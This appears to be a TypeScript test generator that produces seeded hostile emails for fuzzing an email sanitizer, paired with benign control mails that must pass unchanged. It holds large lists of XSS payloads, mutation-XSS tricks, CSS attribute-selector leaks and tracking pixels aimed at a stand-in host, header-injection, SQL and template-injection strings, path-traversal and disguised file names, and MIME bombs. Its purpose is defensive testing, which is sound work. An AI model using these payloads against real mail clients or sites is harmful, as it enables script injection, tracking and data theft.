import { seededRandom } from '#tests/seeded-random.ts'

export interface GeneratedMail {
  readonly kind: string
  readonly raw: Buffer
  /** What must still be there: harmless mail that a wall must not swallow. */
  readonly control?: {
    readonly text?: string
    readonly html?: readonly string[]
    readonly name?: string
    readonly file?: string
  }
  /** A bomb may be refused whole; its raw is kept. */
  readonly mayBeRefused?: boolean
}

/** Every hostile address leads here; whoever asks for it has looked at a mail he was not to look at. */
export const trap = 'http://tracker.hostile.example'

const run = 'alert(1)'

const scripts = [
  `<script>${run}</script>`, `<script src="${trap}/a.js"></script>`, `<ScRiPt>${run}</sCrIpT>`, `<script/x>${run}</script/x>`,
  `<<script>${run}//<</script>`, `<scr<script>ipt>${run}</scr</script>ipt>`, `<script>${run}`, `</title><script>${run}</script>`,
  `<img src=x onerror=${run}>`, `<img src="x" onerror="${run}">`, `<img/src/onerror=${run}>`, `<img src=x onerror\n=\n${run}>`,
  `<img src=x:x onerror=&#97;lert(1)>`, `<body onload=${run}>`, `<div onmouseover="${run}">x</div>`, `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`, `<video><source onerror=${run}></video>`, `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`, `<iframe src="javascript:${run}"></iframe>`, `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${run}"></object>`, `<embed src="javascript:${run}">`, `<form action="javascript:${run}"><button>x</button></form>`,
  `<button formaction="javascript:${run}">x</button>`, `<isindex action="javascript:${run}" type=image>`, `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href="javascript:${run}//">`, `<a href="javascript:${run}">x</a>`, `<a href="JaVaScRiPt:${run}">x</a>`, `<a href="java\tscript:${run}">x</a>`,
  `<a href=" javascript:${run}">x</a>`, `<a href="&#106;avascript:${run}">x</a>`, `<a href="javascript&colon;${run}">x</a>`, `<a href="\u0001javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="//tracker.hostile.example">x</a>`,
  `<a href="x" onclick="${run}" style="position:fixed;inset:0">x</a>`, `<template><script>${run}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img src=x onerror=${run}></textarea><img src=x onerror=${run}>`, `<xmp><img src=x onerror=${run}></xmp>`, `<plaintext><script>${run}</script>`,
  `<!--><img src=x onerror=${run}>-->`, `<!--[if gte IE 4]><script>${run}</script><![endif]-->`, `<![CDATA[<script>${run}</script>]]>`, `<?xml version="1.0"?><script>${run}</script>`,
  `<select><option><img src=x onerror=${run}></select>`, `<keygen autofocus onfocus=${run}>`, `<p id="</p><img src=x onerror=${run}>">x</p>`,
] // prettier-ignore

const drawings = [
  `<svg onload=${run}>`, `<svg><script>${run}</script></svg>`, `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`, `<svg><animate onbegin=${run} attributeName=x>`,
  `<svg><set attributeName=href to=javascript:${run}>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`, `<svg><image href="${trap}/i.png"/></svg>`,
  `<svg><style><img src=x onerror=${run}></style></svg>`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`, `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<math href="javascript:${run}">x</math>`, `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></foreignObject></svg>`, `<svg><desc><noscript></desc><img src=x onerror=${run}></noscript></svg>`,
] // prettier-ignore

const styles = [
  `<style>@import url(${trap}/s.css);</style>`, `<style>body{background:url(${trap}/b.png)}</style>`, `<p style="background:url(${trap}/p.png)">x</p>`,
  `<p style="background:\\75rl(${trap}/p.png)">x</p>`, `<p style="width:expression(${run})">x</p>`, `<p style="-moz-binding:url(${trap}/x.xml#a)">x</p>`,
  `<link rel=stylesheet href="${trap}/l.css">`, `<link rel=preload as=image href="${trap}/l.png">`, `<style>input[value^="a"]{background:url(${trap}/leak?a)}</style><input value=a>`,
  `<style>@font-face{font-family:x;src:url(${trap}/f.woff)}p{font-family:x}</style><p>x</p>`, `<div style="content:url('${trap}/c.png')">x</div>`, `<style></style><style>/*</style><img src=x onerror=${run}>*/`,
] // prettier-ignore

const loads = [
  `<img src="${trap}/1.gif" width=1 height=1>`, `<img srcset="${trap}/1.gif 1x, ${trap}/2.gif 2x">`, `<picture><source srcset="${trap}/p.webp"><img src="${trap}/p.png"></picture>`,
  `<table background="${trap}/t.png"><tr><td background="${trap}/d.png">x</td></tr></table>`, `<body background="${trap}/b.png">`, `<video poster="${trap}/v.png" src="${trap}/v.mp4" autoplay></video>`,
  `<audio src="${trap}/a.mp3" autoplay></audio>`, `<iframe src="${trap}/f"></iframe>`, `<frameset><frame src="${trap}/f"></frameset>`, `<object data="${trap}/o.swf"></object>`, `<embed src="${trap}/e.swf">`,
  `<input type=image src="${trap}/i.png">`, `<meta http-equiv=refresh content="0;url=${trap}/r">`, `<base href="${trap}/"><img src="x.png">`, `<bgsound src="${trap}/b.wav">`, `<track src="${trap}/t.vtt">`,
  `<img dynsrc="${trap}/d.avi" lowsrc="${trap}/l.png">`, `<a href="https://ok.example" ping="${trap}/ping">x</a>`, `<link rel=dns-prefetch href="//tracker.hostile.example">`, `<image src="${trap}/i.png">`,
] // prettier-ignore

const names = [
  `"><script>${run}</script>`, `<img src=x onerror=${run}>`, `Claire\u202Ehc.elpmaxe@tehcor`, `\u0000\u0001\u0002 Rochat`, `Maison <service@maison.example>`, `=?utf-8?B?${Buffer.from(`<script>${run}</script>`).toString('base64')}?=`,
  `\u200B\u200B\u200B`, `'; drop table clients; --`, 'é'.repeat(5000), `{{constructor.constructor('${run}')()}}`, '#{7*7}', `\r\nBcc: everybody@example.com`,
] // prettier-ignore

const files = [
  '../../../../etc/passwd', '..\\..\\windows\\system32\\cmd.exe', `<img src=x onerror=${run}>.png`, 'facture.pdf.exe', 'invoice\u202Efdp.exe', 'a.html', 'x.svg', 'con.txt', '.htaccess', 'a\u0000.png',
  `${'a'.repeat(4000)}.pdf`, '=?utf-8?Q?=3Cscript=3E?=.pdf', 'a"; filename="b.exe', 'photo.jpg/../../x', '', ' ', '....', 'report.docm', 'C:\\autoexec.bat', '/dev/null',
] // prettier-ignore

const charsets = ['utf-7', 'utf-16', 'utf-16be', 'utf-32', 'iso-2022-jp', 'x-user-defined', 'windows-1252', 'nothing-known', '"><script>', 'us-ascii', 'hz-gb-2312', 'cp037'] // prettier-ignore

const wordHtml = (words: string): string =>
  `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word"><head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]--><style><!-- @font-face {font-family:"Cambria Math";} p.MsoNormal {margin:0cm;} --></style><xml><o:OfficeDocumentSettings><o:AllowPNG/></o:OfficeDocumentSettings></xml></head><body lang=FR-CH link="#0563C1" style='word-wrap:break-word'><div class=WordSection1><p class=MsoNormal style='mso-margin-top-alt:auto'><span lang=FR style='font-family:"Calibri",sans-serif;mso-fareast-language:EN-US'>${words}<o:p></o:p></span></p><p class=MsoNormal><o:p>&nbsp;</o:p></p><!--[if gte vml 1]><v:shapetype id="_x0000_t75"><v:imagedata src="${trap}/w.png" o:title=""/></v:shapetype><![endif]--><![if !vml]><img width=1 height=1 src="${trap}/w.png"><![endif]></div></body></html>`

interface Making {
  readonly random: () => number
  below(most: number): number
  pick<T>(from: readonly [T, ...T[]] | readonly T[]): T
  readonly n: number
}

const head = (making: Making, more: readonly string[] = []): string =>
  [
    ...(more.some((line) => line.startsWith('From:')) ? [] : [`From: Claire ${making.n} <claire${making.n}@client.example>`]),
    'To: service@maison.example', `Subject: Mail ${making.n}`, `Message-ID: <h${making.n}@hostile.example>`, 'MIME-Version: 1.0', ...more,
  ].join('\r\n') // prettier-ignore

const htmlMail = (making: Making, html: string): Buffer => {
  const type = 'Content-Type: text/html; charset=utf-8'
  if (making.random() < 0.5) return Buffer.from(`${head(making, [type])}\r\n\r\n${html}\r\n`)
  const encoded = Buffer.from(html)
    .toString('base64')
    .replace(/.{1,76}/g, '$&\r\n')
  return Buffer.from(`${head(making, [type, 'Content-Transfer-Encoding: base64'])}\r\n\r\n${encoded}`)
}

/** The same attack as a parser might meet it: other case, stray signs, broken brackets, doubled, wrapped, cut. */
const mutate = ({ random, below }: Making, text: string): string => {
  const changes: ((given: string) => string)[] = [
    (given) => given,
    (given) => given.replace(/[a-z]/g, (letter) => (random() < 0.3 ? letter.toUpperCase() : letter)),
    (given) => given.replaceAll('<', '<\u0000'),
    (given) => given.replaceAll(' ', '\t\n'),
    (given) => given.replaceAll('=', ' = '),
    (given) => given.replaceAll('"', "'"),
    (given) => given.replace('>', ''),
    (given) => `${given}${given}`,
    (given) => `<div><p>${given}</p></div>`,
    (given) => `<table><tr><td>${given}`,
    (given) => `${'<b>'.repeat(below(60))}${given}`,
    (given) => given.slice(0, Math.max(4, given.length - below(6))),
    (given) => `<!-- ${given} --><p>${given}</p>`,
    (given) => `<a title="${given}">${given}</a>`,
    (given) => given.replace(/[a-z]/, (letter) => `&#${letter.charCodeAt(0)};`),
    (given) => `${given.slice(0, given.length / 2)}<x>${given.slice(given.length / 2)}`,
    (given) => `<blockquote cite="${given.replaceAll('"', '')}">${given}</blockquote>`,
  ]
  const first = changes[below(changes.length)]?.(text) ?? text
  return random() < 0.4 ? (changes[below(changes.length)]?.(first) ?? first) : first
}

const attack =
  (from: readonly string[]) =>
  (making: Making): Omit<GeneratedMail, 'kind'> => ({
    raw: htmlMail(
      making,
      `Bonjour ${mutate(making, making.pick(from))} ${mutate(making, making.pick(from))} au revoir`,
    ),
  })

const nested = (making: Making): Omit<GeneratedMail, 'kind'> => {
  const tag = making.pick([
    'div',
    'table',
    'b',
    'a href=x',
    'blockquote',
    'font',
    'svg',
    'math',
    'select',
    'p',
    'ul',
    'form',
  ])
  const deep = making.pick([50, 500, 5000, 20_000])
  return {
    raw: htmlMail(
      making,
      `${`<${tag}>`.repeat(deep)}<img src=x onerror=${run}>${making.random() < 0.5 ? `</${tag.split(' ')[0]}>`.repeat(deep) : ''}`,
    ),
  }
}

const bomb = (making: Making): Omit<GeneratedMail, 'kind'> => {
  const part = '--b\r\nContent-Type: text/plain\r\n\r\nx\r\n'
  const depth = 20 + making.below(300)
  const bombs: (() => string)[] = [
    () => head(making, Array.from({ length: 1 }, () => 'Content-Type: multipart/mixed; boundary=b0')) + Array.from({ length: depth }, (_, n) => `\r\n\r\n--b${n}\r\nContent-Type: multipart/mixed; boundary=b${n + 1}`).join(''),
    () => `${head(making, ['Content-Type: multipart/mixed; boundary=b'])}\r\n\r\n${part.repeat(900 + making.below(1500))}--b--\r\n`,
    () => `${head(making, ['Content-Type: multipart/mixed; boundary=b'])}\r\n\r\n${'--b\r\n\r\n'.repeat(3000)}`,
    () => `${head(making)}\r\n${'Content-Type: message/rfc822\r\n\r\nFrom: a@b.c\r\n'.repeat(300)}\r\nx`,
    () => `${head(making, ['Content-Type: text/plain; format=flowed; delsp=yes'])}\r\n\r\n${' \n'.repeat(30_000)}`,
    () => `${head(making, ['Content-Type: text/plain'])}\r\n\r\n${'> le 3 mars a écrit :\n'.repeat(20_000)}`,
    () => `${head(making, ['Content-Type: text/html'])}\r\n\r\n${'<'.repeat(300_000)}`,
    () => `${head(making, ['Content-Type: text/html'])}\r\n\r\n<p ${'a=1 '.repeat(60_000)}>x`,
    () => `${head(making, ['Content-Type: multipart/mixed; boundary=""'])}\r\n\r\n----\r\n\r\nx`,
    () => `${head(making, ['Content-Type: multipart/mixed'])}\r\n\r\n--undefined\r\n\r\nx`,
    () => `${head(making, ['Content-Type: application/zip', 'Content-Transfer-Encoding: base64', 'Content-Disposition: attachment; filename=42.zip'])}\r\n\r\n${Buffer.alloc(30_000, 80).toString('base64')}`,
    () => 'x'.repeat(80_000),
    () => '\r\n\r\n',
    () => '',
  ] // prettier-ignore
  return { raw: Buffer.from(making.pick(bombs)()), mayBeRefused: true }
}

const giantHeader = (making: Making): Omit<GeneratedMail, 'kind'> => {
  // A megabyte now and then, fifty kilobytes mostly: five thousand of the one would be five gigabytes of test.
  const size = making.below(12) === 0 ? 1_000_000 : 50_000
  const fill = (unit: string): string => unit.repeat(Math.ceil(size / unit.length))
  const line = making.pick([
    `X-Long: ${fill('a')}`, fill('X-Many: a\r\n').trimEnd(), `To: ${fill('a@b.example, ')}x@y.example`, `References: ${fill('<a@b> ')}`, `Subject: ${fill('=?utf-8?Q?=C3=A9?= ')}`,
    `From: ${fill('"a')} <a@b.example>`, `Cc: ${fill('(')}`, `Content-Type: text/plain; ${fill('name*0*=a; ')}`, `X-Fold: ${fill('a\r\n ')}`, `In-Reply-To: <${fill('a')}@b>`,
  ]) // prettier-ignore
  return { raw: Buffer.from(`${head(making)}\r\n${line}\r\n\r\nBonjour\r\n`) }
}

const hostileName = (making: Making): Omit<GeneratedMail, 'kind'> => {
  const name = making.pick(names)
  const quoted = making.random() < 0.5 ? `"${name.replaceAll('"', '\\"')}"` : name
  return {
    raw: Buffer.from(`${head(making, [`From: ${quoted} <claire@client.example>`])}\r\n\r\nBonjour\r\n`),
  }
}

const hostileFile = (making: Making): Omit<GeneratedMail, 'kind'> => {
  const name = making.pick(files)
  const type = making.pick([
    'image/png',
    'text/html',
    'image/svg+xml',
    'application/pdf',
    'application/x-msdownload',
    name.slice(0, 60),
  ])
  const body = making.pick([
    `<script>${run}</script>`,
    `<svg onload=${run}>`,
    'MZ\u0090',
    '%PDF-1.4 nothing',
    'GIF89a=1',
  ])
  return {
    raw: Buffer.from(
      `${head(making, ['Content-Type: multipart/mixed; boundary=b'])}\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nBonjour\r\n--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: ${making.pick(['attachment', 'inline'])}; filename="${name}"\r\n\r\n${body}\r\n--b--\r\n`,
    ),
  }
}

const charset = (making: Making): Omit<GeneratedMail, 'kind'> => {
  const noise = Buffer.from(Array.from({ length: 200 }, () => making.below(256)))
  const lead = Buffer.from(
    `${head(making, [`Content-Type: text/html; charset=${making.pick(charsets)}`])}\r\n\r\n+ADw-script+AD4-alert(1)+ADw-/script+AD4- <p>`,
  )
  return { raw: Buffer.concat([lead, noise, Buffer.from(`</p>\u2028<img src=x onerror=${run}>`)]) }
}

const word = (making: Making): Omit<GeneratedMail, 'kind'> => ({
  raw: htmlMail(
    making,
    wordHtml(`Bonjour ${making.n} ${mutate(making, making.pick([...scripts, ...styles]))}`),
  ),
})

/** Mail as clients write it. What these say must come through every wall unchanged. */
const controls: ((making: Making) => Omit<GeneratedMail, 'kind'>)[] = [
  (making) => ({
    raw: Buffer.from(`${head(making, ['Content-Type: text/plain; charset=utf-8'])}\r\n\r\nBonjour,\r\nma montre retarde de 5 < 6 minutes & plus.\r\n`),
    control: { text: 'Bonjour,\nma montre retarde de 5 < 6 minutes & plus.' },
  }),
  (making) => ({
    raw: htmlMail(making, '<p>Grüezi, <b>wann</b> ist sie <a href="https://example.ch/?a=1&amp;b=2">bereit</a>?</p><ul><li>Uhr</li><li>Band</li></ul><table><tr><td colspan="2">CHF 120</td></tr></table>'),
    control: { html: ['<b>wann</b>', 'href="https://example.ch/?a=1&amp;b=2"', '<li>Band</li>', 'colspan="2"'], text: 'Grüezi, wann ist sie bereit?\nUhr\nBand\nCHF 120' },
  }),
  (making) => ({
    raw: Buffer.from(`${head(making, ['From: =?utf-8?Q?Zo=C3=AB_D=E2=80=99Arc?= <zoe@client.example>', 'Content-Type: text/plain; charset=iso-8859-1', 'Content-Transfer-Encoding: quoted-printable'])}\r\n\r\nD=E9j=E0 pr=EAte ?\r\n`),
    control: { text: 'Déjà prête ?', name: 'Zoë D’Arc' },
  }),
  (making) => ({
    raw: htmlMail(making, wordHtml(`Ecco l’orologio n. ${making.n}`)),
    control: { text: `Ecco l’orologio n. ${making.n}` },
  }),
  (making) => ({
    raw: Buffer.from(`${head(making, ['Content-Type: multipart/mixed; boundary=b'])}\r\n\r\n--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVoici la facture -- merci\r\n--\r\nClaire\r\n--b\r\nContent-Type: application/pdf; name="Facture été 2026.pdf"\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="Facture.pdf"\r\n\r\n${Buffer.from('%PDF-1.4\n%%EOF\n').toString('base64')}\r\n--b--\r\n`),
    control: { text: 'Voici la facture -- merci\n--\nClaire', file: '%PDF-1.4\n%%EOF\n' },
  }),
  (making) => ({
    raw: Buffer.from(`${head(making, ['Content-Type: multipart/mixed; boundary=b'])}\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nSee below\r\n--b\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=note.txt\r\n\r\nline one\r\nline two\r\n--b--\r\n`),
    control: { text: 'See below', file: 'line one\r\nline two' },
  }),
  (making) => ({
    raw: Buffer.from(`${head(making, ['Content-Type: text/plain; charset=utf-8'])}\r\n\r\n${'Eine lange Geschichte meiner Uhr. '.repeat(400)}\r\n`),
    control: { text: 'Eine lange Geschichte meiner Uhr. '.repeat(400).trim() },
  }),
  (making) => ({
    raw: Buffer.from(`${head(making, [`X-Spam-Report: ${'fine '.repeat(8000)}`, 'Content-Type: text/plain'])}\r\n\r\nStill readable\r\n`),
    control: { text: 'Still readable' },
  }),
] // prettier-ignore

const kinds: Readonly<Record<string, (making: Making) => Omit<GeneratedMail, 'kind'>>> = {
  script: attack(scripts),
  drawing: attack(drawings),
  style: attack(styles),
  load: attack(loads),
  mixed: attack([...scripts, ...drawings, ...styles, ...loads]),
  nested,
  bomb,
  header: giantHeader,
  name: hostileName,
  file: hostileFile,
  charset,
  word,
  control: (making) => making.pick(controls)(making),
}

/** So many mails, the same for the same seed: a mail that broke something can be made again. */
export function* hostileMails(count: number, seed = 20_261_122): Generator<GeneratedMail> {
  const random = seededRandom(seed)
  const below = (most: number): number => Math.floor(random() * most)
  const entries = Object.entries(kinds)
  for (let n = 0; n < count; n += 1) {
    const [kind, make] = entries[n % entries.length] ?? []
    if (kind === undefined || make === undefined) return
    const pick = <T>(from: readonly T[]): T => {
      const one = from[below(from.length)]
      if (one === undefined) throw new Error('nothing to pick from')
      return one
    }
    yield { kind, ...make({ random, below, pick, n }) }
  }
}
